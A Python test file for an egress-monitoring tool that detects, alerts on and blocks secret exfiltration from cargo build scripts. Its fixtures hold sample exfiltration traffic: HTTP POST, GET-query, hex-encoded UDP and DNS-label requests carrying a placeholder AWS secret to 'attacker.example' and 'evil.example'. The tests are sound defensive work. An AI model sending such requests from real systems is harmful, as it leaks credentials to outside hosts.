"""The exfiltration watch without a kernel: pieces of a request, uploads, sunk attempts."""

from __future__ import annotations

from typing import Any

from scapy.layers.inet import IP, TCP, UDP

from egress_monitor.builds import BuildRegistry
from egress_monitor.events import ExecInfo, FlowKey, Protocol
from egress_monitor.exfil import ExfilWatch
from egress_monitor.policy.engine import Subject
from egress_monitor.policy.loader import no_policy, parse_policy
from egress_monitor.process_tree import Node
from egress_monitor.roles import Role

FLOW = FlowKey(4, Protocol.TCP, 6, "198.51.100.1", 40000, "198.51.100.2", 80)


class Clock:
    def __init__(self) -> None:
        self.now = 100.0

    def __call__(self) -> float:
        return self.now


def watch(counters: dict[FlowKey, tuple[int, int] | None] | None = None
          ) -> tuple[ExfilWatch, list[dict[str, Any]], Clock, Node]:
    out: list[dict[str, Any]] = []
    clock = Clock()
    w = ExfilWatch(emit=lambda alert: out.append(alert.record()),
                   counters=lambda f: (counters or {}).get(f), upload_threshold=1000,
                   wall=lambda: 1_795_462_898.0, clock=clock)
    root = Node(pid=1, parent=None, info=ExecInfo(exe="/usr/bin/cargo"))
    root.build = BuildRegistry(31000, 2).start(root, ts_ns=0, wall=0.0, via="cargo")
    root.role = Role.BUILD_SCRIPT
    return w, out, clock, root


def packet(payload: bytes) -> bytes:
    return bytes(IP(src=FLOW.src, dst=FLOW.dst) / TCP(sport=FLOW.src_port, dport=FLOW.dst_port,
                                                      flags="PA") / payload)


def subject(_seen: object) -> Subject:
    return Subject(role="build-script")


def test_a_request_written_in_pieces_is_judged_once_whole() -> None:
    w, out, _clock, root = watch()
    assert root.build is not None
    w.accepted(FLOW, root, root.build, ("attacker.example",))
    policy = no_policy()
    assert w.first_data(FLOW, packet(b""), subject, policy, False) is False  # the ACK
    assert w.first_data(FLOW, packet(b"POST "), subject, policy, False) is False
    assert out == []
    body = b"/c HTTP/1.1\r\nHost: a\r\nContent-Length: 24\r\n\r\nAWS_SECRET_ACCESS_KEY=xyz"
    assert w.first_data(FLOW, packet(body), subject, policy, False) is False
    [alert] = out
    assert alert["kind"] == "http_post" and alert["evidence"]["method"] == "POST"
    assert alert["evidence"]["secret_names"] == ["AWS_SECRET_ACCESS_KEY"]
    assert alert["evidence"]["dst"]["names"] == ["attacker.example"]
    # Its later first packets pass without another look; an unknown flow is not ours.
    assert w.first_data(FLOW, packet(b"more"), subject, policy, False) is False
    assert len(out) == 1
    other = FlowKey(4, Protocol.TCP, 6, "198.51.100.1", 40001, "198.51.100.2", 80)
    assert w.first_data(other, packet(b"x"), subject, policy, False) is None


def test_a_proxied_request_to_a_denied_place_is_refused_in_enforce_mode() -> None:
    w, out, _clock, root = watch()
    assert root.build is not None
    w.accepted(FLOW, root, root.build, ())
    policy = parse_policy("version: 1\nmode: enforce\n")
    connect = b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n"
    assert w.first_data(FLOW, packet(connect), subject, policy, True) is True
    assert [(a["kind"], a["blocked"]) for a in out] == [("blocked_attempt", True)]
    assert out[0]["evidence"]["proxied_to"] == "evil.example:443"


def test_a_request_whose_destination_cannot_be_read_is_refused_in_enforce_mode() -> None:
    policy = parse_policy("version: 1\nmode: enforce\ndefaults: {build-script: allow}\n")
    for enforce in (True, False):
        w, out, _clock, root = watch()
        assert root.build is not None
        w.accepted(FLOW, root, root.build, ())
        head = b"GET http://[::1/x HTTP/1.1\r\nHost: x\r\n\r\n"  # urlsplit refuses it
        assert w.first_data(FLOW, packet(head), subject, policy, enforce) is enforce
        [alert] = out
        assert (alert["kind"], alert["blocked"], alert["rule"]) == (
            "blocked_attempt" if enforce else "policy_alert", enforce, "malformed-request")
        assert "Invalid IPv6 URL" in alert["evidence"]["malformed"]


def test_uploads_past_the_threshold_and_forgotten_flows() -> None:
    udp = FlowKey(4, Protocol.UDP, 17, "198.51.100.1", 5000, "198.51.100.2", 53)
    counters: dict[FlowKey, tuple[int, int] | None] = {FLOW: (5000, 300), udp: (10, 10)}
    w, out, _clock, root = watch(counters)
    assert root.build is not None
    w.accepted(FLOW, root, root.build, ())
    w.accepted(udp, root, root.build, ())
    loop = FlowKey(4, Protocol.TCP, 6, "127.0.0.1", 1, "127.0.0.1", 2)
    w.accepted(loop, root, root.build, ())  # loopback is never an upload
    w.check_uploads()
    assert [(a["kind"], a["evidence"]["bytes_out"]) for a in out] == [("upload", 5000)]
    counters[udp] = None  # conntrack forgot it
    w.check_uploads()
    assert w.uploads == {} and len(out) == 1


def test_a_refusal_that_never_reached_the_sinkhole_is_still_reported() -> None:
    w, out, clock, root = watch()
    assert root.build is not None
    w.sinking(FLOW, root, root.build, ("attacker.example",), "default:build-script")
    w.expire_sunk()
    assert out == []
    clock.now += 6
    w.expire_sunk()
    assert out[0]["kind"] == "blocked_attempt" and out[0]["evidence"]["bytes_seen"] == 0
    w.sinking(FLOW, root, root.build, (), "r")
    w.sunk_attempt((FLOW.src, FLOW.src_port), (FLOW.dst, 80),
                   b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00")  # not a readable hello
    assert out[1]["evidence"]["bytes_seen"] == 10 and "sni" not in out[1]["evidence"]
    w.sunk_attempt(("198.51.100.9", 1), None, b"")  # nobody sent it there: ignored
    assert len(out) == 2


SECRET = b"wJalrXUtnFEMIK7MDENGbPxRfiCYzEXAMPLEfake"
ENVIRON = b"HOME=/root\0AWS_SECRET_ACCESS_KEY=" + SECRET + b"\0PATH=/usr/bin"


def test_a_secret_value_in_a_get_query_is_an_alert_and_refused_in_enforce() -> None:
    w, out, _clock, root = watch()
    assert root.build is not None
    w.learn_secrets(root.build, ENVIRON)
    policy = no_policy()
    for enforce in (False, True):
        out.clear()
        w.accepted(FLOW, root, root.build, ("attacker.example",))
        get = b"GET /p1?t=" + SECRET + b"&n=1 HTTP/1.1\r\nHost: a\r\nX-Trace: v\r\n\r\n"
        assert w.first_data(FLOW, packet(get), subject, policy, enforce) is enforce
        [alert] = out
        ev = alert["evidence"]
        assert alert["kind"] == "secret_value" and alert["blocked"] is enforce
        assert ev["secret_names"] == ["AWS_SECRET_ACCESS_KEY"] and ev["encodings"] == ["raw"]
        assert (ev["path"], ev["query_names"]) == ("/p1", ["t", "n"])
        assert ev["headers"] == ["host", "x-trace"]
        assert SECRET.decode() not in repr(out)


def test_a_secret_value_in_a_udp_datagram_and_in_a_sunk_attempt() -> None:
    w, out, _clock, root = watch()
    assert root.build is not None
    w.learn_secrets(root.build, ENVIRON)
    udp = FlowKey(4, Protocol.UDP, 17, "198.51.100.1", 5000, "198.51.100.2", 5353)
    datagram = bytes(IP(src=udp.src, dst=udp.dst) / UDP(sport=5000, dport=5353)
                     / SECRET.hex().encode())
    assert w.first_datagram(udp, datagram, root, root.build, (), True) is True
    assert w.first_datagram(udp, datagram[:40], root, root.build, (), True) is False
    assert out[0]["kind"] == "secret_value" and out[0]["evidence"]["encodings"] == ["hex"]
    w.sinking(FLOW, root, root.build, (), "default:build-script")
    w.sunk_attempt((FLOW.src, FLOW.src_port), (FLOW.dst, 80), SECRET)
    assert out[1]["kind"] == "blocked_attempt"
    assert out[1]["evidence"]["secret_names"] == ["AWS_SECRET_ACCESS_KEY"]


def test_records_of_a_build_are_scrubbed_even_just_after_it_ended() -> None:
    w, _out, _clock, root = watch()
    assert root.build is not None
    w.learn_secrets(root.build, ENVIRON)
    record = {"type": "dns", "build": {"id": root.build.id},
              "query": {"name": SECRET.decode().lower() + ".x.example"}}
    assert "[secret AWS_SECRET_ACCESS_KEY]" in w.scrub(record)["query"]["name"]
    w.forget_build(root.build)
    assert SECRET.decode().lower() not in repr(w.scrub(record))
    assert w.scrub({"type": "daemon"}) == {"type": "daemon"}


def test_cargo_itself_sending_a_token_is_not_a_secret_value_alert() -> None:
    w, out, _clock, root = watch()
    assert root.build is not None
    w.learn_secrets(root.build, b"CARGO_REGISTRY_TOKEN=" + SECRET)
    w.accepted(FLOW, root, root.build, ())
    put = b"PUT /api/v1/crates/new HTTP/1.1\r\nAuthorization: " + SECRET + b"\r\n\r\n"
    assert w.first_data(FLOW, packet(put), lambda _s: Subject(role="cargo"), no_policy(),
                        True) is False
    assert [a["kind"] for a in out] == ["http_post"]
